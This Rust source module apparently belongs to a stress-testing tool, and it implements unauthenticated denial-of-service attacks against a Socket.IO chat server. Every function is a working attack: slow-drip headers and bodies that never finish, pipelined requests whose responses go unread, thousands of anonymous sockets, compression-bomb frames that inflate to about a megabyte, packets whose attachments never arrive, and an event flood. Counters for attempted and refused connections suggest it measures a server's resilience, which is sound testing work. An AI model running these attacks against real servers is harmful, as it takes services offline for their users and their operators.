//! Attacks that need no account: on connections, requests and frames.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::thread;
use std::time::{Duration, Instant};

use super::attacker::{breathe, compressed, connect, drip, head, hold, nobody, send};
use super::target::Target;

/// The number of connections that are held, and of the threads that hold them.
const HELD: usize = 1_100;
const THREADS: usize = 4;
/// The number of sockets without identity.
const ANONYMOUS: usize = 5_000;
/// The number of sockets with an unfinished packet.
const UNFINISHED: usize = 500;
/// Number of bytes of an inflated message.
const INFLATED_BYTES: usize = 999_000;
/// Number of frames per second of each socket whose frames inflate: about 390 kbit/s at 1 kB each.
const BOMBS_PER_SECOND: u64 = 48;

/// Runs the same work on several threads until it is done.
fn on_threads(count: usize, work: impl Fn() + Sync) {
    thread::scope(|scope| {
        for _ in 0..count {
            scope.spawn(&work);
        }
    });
}

/// Requests to polling sessions of their own, whose bodies never arrive.
pub(super) fn bodies(target: &Target) {
    on_threads(THREADS, || {
        let open = |to| {
            let mut stream = connect(to)?;
            let path = "/socket.io/?EIO=4&transport=polling";
            write!(stream, "GET {path} HTTP/1.1\r\nHost: {to}\r\n\r\n")?;
            let answer = String::from_utf8_lossy(&head(&mut stream)?).into_owned();
            let session = answer.split("\"sid\":\"").nth(1).and_then(|rest| rest.split('"').next());
            let session = session.ok_or_else(|| std::io::Error::other("no session"))?.to_owned();
            write!(stream, "POST {path}&sid={session} HTTP/1.1\r\nHost: {to}\r\nContent-Length: 900000\r\n\r\n4")?;
            Ok(stream)
        };
        hold(target, HELD / THREADS, Duration::from_secs(1), open, |stream| drip(stream, b"x"));
    });
}

/// Pipelined requests for a large response, which is never read.
pub(super) fn unread(target: &Target) {
    const REQUEST: &str = "GET /api/v1/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n";
    on_threads(THREADS, || {
        let open = |to| {
            let mut stream = connect(to)?;
            stream.write_all(REQUEST.repeat(50).as_bytes())?;
            Ok(stream)
        };
        hold(target, HELD / THREADS, Duration::from_secs(1), open, |stream| drip(stream, REQUEST.as_bytes()));
    });
}

/// Request heads that never end.
pub(super) fn heads(target: &Target) {
    on_threads(THREADS, || {
        let open = |to| {
            let mut stream = connect(to)?;
            stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")?;
            Ok(stream)
        };
        hold(target, HELD / THREADS, Duration::from_secs(1), open, |stream| drip(stream, b"x"));
    });
}

/// Sockets without identity, which answer pings and send nothing else.
pub(super) fn anonymous(target: &Target) {
    on_threads(THREADS, || hold(target, ANONYMOUS / THREADS, Duration::from_secs(5), nobody, breathe));
}

/// Opens a socket without identity, and retries if it is refused; `None` once the attack is over.
fn next_nobody(target: &Target) -> Option<TcpStream> {
    while !target.is_over() {
        target.attempted();
        if let Ok(stream) = nobody(target.address) {
            return Some(stream);
        }
        target.refused();
        thread::sleep(Duration::from_millis(100));
    }
    None
}

/// Frames of one kilobyte that inflate to one megabyte.
pub(super) fn bombs(target: &Target) {
    // Many small values: a parser that builds a tree pays for each.
    let text = format!("42[\"send_message\",{{\"x\":[{}0]}}]", "{},".repeat(INFLATED_BYTES / 3));
    let Ok(frame) = compressed(&text) else { return };
    on_threads(4, || {
        while let Some(mut stream) = next_nobody(target) {
            let (began, mut sent) = (Instant::now(), 0);
            while !target.is_over() {
                target.attempted();
                if stream.write_all(&frame).is_err() || breathe(&mut stream).is_err() {
                    target.refused();
                    break;
                }
                sent += 1;
                let due = Duration::from_millis(sent * 1_000 / BOMBS_PER_SECOND);
                thread::sleep(due.saturating_sub(began.elapsed()));
            }
        }
    });
}

/// Binary packets whose text is one megabyte, and whose attachment never arrives.
pub(super) fn binary(target: &Target) {
    let fields = "\"data\":{\"_placeholder\":true,\"num\":0}";
    let text = format!("451-[\"send_message\",{{{fields},\"x\":\"{}\"}}]", "a".repeat(INFLATED_BYTES));
    let Ok(frame) = compressed(&text) else { return };
    on_threads(THREADS, || {
        let open = |to| {
            let mut stream = nobody(to)?;
            stream.write_all(&frame)?;
            Ok(stream)
        };
        hold(target, UNFINISHED / THREADS, Duration::from_secs(2), open, breathe);
    });
}

/// Small events, as fast as the server reads them; the answers are discarded.
pub(super) fn flood(target: &Target) {
    on_threads(8, || {
        while let Some(mut stream) = next_nobody(target) {
            let mut answers = [0; 65_536];
            while !target.is_over() {
                target.attempted();
                let sent =
                    send(&mut stream, "42[\"typing\",{\"roomId\":\"r\",\"userId\":\"flood\",\"isTyping\":true}]");
                let read = sent.and_then(|()| {
                    stream.set_nonblocking(true)?;
                    let read = stream.read(&mut answers);
                    stream.set_nonblocking(false)?;
                    match read {
                        Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => Ok(1),
                        other => other,
                    }
                });
                if read.is_err() || matches!(read, Ok(0)) {
                    target.refused();
                    break;
                }
            }
        }
    });
}
